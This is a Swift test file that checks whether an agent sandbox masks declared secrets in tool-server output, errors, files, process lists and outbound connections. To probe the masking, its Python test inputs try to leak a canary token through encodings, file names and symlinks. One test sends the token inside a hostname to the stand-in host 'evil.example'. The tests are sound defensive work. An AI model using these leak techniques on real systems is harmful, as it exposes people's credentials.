// Part of OpenAgency.
// SPDX-License-Identifier: Apache-2.0

import Foundation
import Testing

@testable import AgencyCore
@testable import AgencyEnactment
@testable import AgencySchema

/// Secrets that servers declare, and what comes out of those that tell.
@Suite(.timeLimit(.minutes(3)))
struct ServerSecretTests {
    private static let canary = "canary-3f9a/77+Zq"

    private static func with(
        secrets: [String] = ["TOKEN"],
        _ test: (Bench, Tools, ToolServers) async throws -> Void
    ) async throws {
        try await Bench.with { bench async throws in
            var server = MCPServerTests.server("python")
            server.secrets = secrets
            let source: SecretSource = { name in
                guard name == "TOKEN" else { throw EnactmentError(.badSecret, "the secret \(name) is not set") }
                return try Secret(name: name, value: Array(canary.utf8))
            }
            let first = try await ToolServers([server], workspace: bench.directory, secrets: source).open()
            let reviews = first.map { MCPServerTests.review($0, reads: ["again"]) }
            let servers = ToolServers([server], reviews: reviews, workspace: bench.directory, secrets: source)
            try await servers.open()
            try await test(bench, Tools(workspace: bench.workspace, servers: servers), servers)
        }
    }

    private static func isShown(_ text: String) -> Bool {
        ["canary", "3f9a", "63616e617279", "Y2FuYXJ5"].contains { text.lowercased().contains($0.lowercased()) }
    }

    @Test func `a server that declares a secret has it, and what it says of it is masked`() async throws {
        try await Self.with { _, tools, _ async throws in
            let code = """
                import base64, os, urllib.parse
                t = os.environ['TOKEN']
                print(len(t), t == 'can' + 'ary-3f9a/77+Zq')
                print(t, t.encode().hex(), base64.b64encode(t.encode()).decode(), urllib.parse.quote(t, safe=''), repr(t))
                """
            for result in [
                try await ContainedServerTests.act(tools, code), try await ContainedServerTests.look(tools, code),
            ] {
                #expect(result.output.hasPrefix("17 True\n[secret TOKEN] [secret TOKEN] "), "\(result.output)")
                #expect(!Self.isShown(result.output), "\(result.output)")
            }
        }
    }

    @Test func `no file comes out with a secret in it or in its name`() async throws {
        try await Self.with { bench, tools, _ async throws in
            let result = try await ContainedServerTests.act(
                tools,
                """
                import base64, os
                t = os.environ['TOKEN'].replace('/', '-'); s = os.environ['TOKEN']
                open('plain', 'w').write('nothing to see'); open('holds', 'w').write('x' * 3000000 + s)
                open('encoded', 'wb').write(base64.b64encode(s.encode()))
                os.makedirs(s); open(s + '/inner', 'w').write('x')
                os.symlink(s, 'link')
                with open('notes.txt', 'a') as notes: notes.write(s)
                """
            )
            #expect(result.status == 1 && !Self.isShown(result.output), "\(result.output)")
            #expect(result.output.contains("“notes.txt” has a secret in it"), "\(result.output)")
            #expect(bench.text("plain") == "nothing to see" && bench.text("notes.txt") == "one\ntwo\nthree\n")
            for name in ["holds", "encoded", "link"] { #expect(!bench.exists(name), "\(name)") }
            let found = try FileManager.default.subpathsOfDirectory(atPath: bench.directory)
            #expect(!found.contains { $0.contains(Self.canary) }, "\(found)")
        }
    }

    @Test func `a server that breaks off does not tell it in its complaints`() async throws {
        try await Self.with { _, tools, _ async throws in
            let code =
                "import os, sys\nsys.stderr.write('failed with ' + os.environ['TOKEN'])\nsys.stderr.flush()\nos._exit(1)"
            do {
                _ = try await ContainedServerTests.act(tools, code)
                Issue.record("there was an answer")
            } catch {
                #expect("\(error)".contains("failed with [secret TOKEN]") && !Self.isShown("\(error)"), "\(error)")
            }
            let wrong = try await ContainedServerTests.look(
                tools,
                "import os\nos.write(1, os.environ['TOKEN'].encode() + b'\\n')"
            )
            #expect(!wrong.isSuccess && !Self.isShown(wrong.output) && wrong.output.contains("[secret TOKEN]"))
        }
    }

    @Test func `a secret that was not declared is not there, and one that is not set keeps the server from starting`()
        async throws
    {
        try await Self.with(secrets: []) { _, tools, _ async throws in
            let result = try await ContainedServerTests.look(tools, "import os\nprint(sorted(os.environ))")
            #expect(result.isSuccess && !result.output.contains("TOKEN"), "\(result.output)")
        }
        try await Bench.with { bench async throws in
            var server = MCPServerTests.server("python")
            server.secrets = ["OTHER"]
            let servers = ToolServers([server], workspace: bench.directory)
            #expect(await code { try await servers.open() } == .badSecret)
        }
    }

    @Test func `no list of processes and no description of the policy shows a value`() async throws {
        try await Bench.with { bench async throws in
            var sandbox = Sandbox()
            sandbox.secrets = [try Secret(name: "TOKEN", value: Array(Self.canary.utf8))]
            let residence = try sandbox.start(
                ["sh", "-c", "printf %s \"$TOKEN\" | wc -c; exec cat"],
                in: bench.directory,
                access: .readOnly
            )
            // Once it has answered, everything between us and it has been started.
            var pid: [String] = []
            for _ in 0..<200 where pid.isEmpty {
                pid =
                    (try? FileManager.default.contentsOfDirectory(atPath: "/proc"))?.filter { name in
                        Int(name) != nil
                            && (try? String(contentsOfFile: "/proc/\(name)/comm", encoding: .utf8)) == "cat\n"
                    } ?? []
                try await Task.sleep(for: .milliseconds(10))
            }
            #expect(!pid.isEmpty)
            for name in try FileManager.default.contentsOfDirectory(atPath: "/proc") where Int(name) != nil {
                let line = FileManager.default.contents(atPath: "/proc/\(name)/cmdline") ?? Data()
                #expect(!String(decoding: line, as: UTF8.self).contains(Self.canary))
            }
            let policy = try JSONValue(encoding: sandbox.containment(access: .readWrite)).compactText
            #expect(!policy.contains("canary") && !"\(sandbox)".contains("canary-"))
            residence.cut()
        }
    }

    @Test func `whom a program asks for does not tell it either`() async throws {
        try await Bench.with { bench async throws in
            var sandbox = Sandbox()
            sandbox.secrets = [try Secret(name: "TOKEN", value: Array("canary-as-name".utf8))]
            sandbox.hosts = [DeclaredHost("api.example.com")].compactMap(\.self)
            sandbox.network = FakeNetwork([:], port: 1).network
            let code = Bench.asking + "\nimport os\nprint(connect(os.environ['TOKEN'].encode() + b'.evil.example:443'))"
            let outcome = try await sandbox.run(["python3", "-c", code], in: bench.directory, access: .readOnly)
            #expect(
                !outcome.output.text.contains("canary") && outcome.output.text.contains("403"),
                "\(outcome.output.text)"
            )
            let connection = try #require(outcome.connections?.first)
            #expect(connection.host == "[secret TOKEN].evil.example" && connection.refusal?.contains("canary") == false)
        }
    }
}
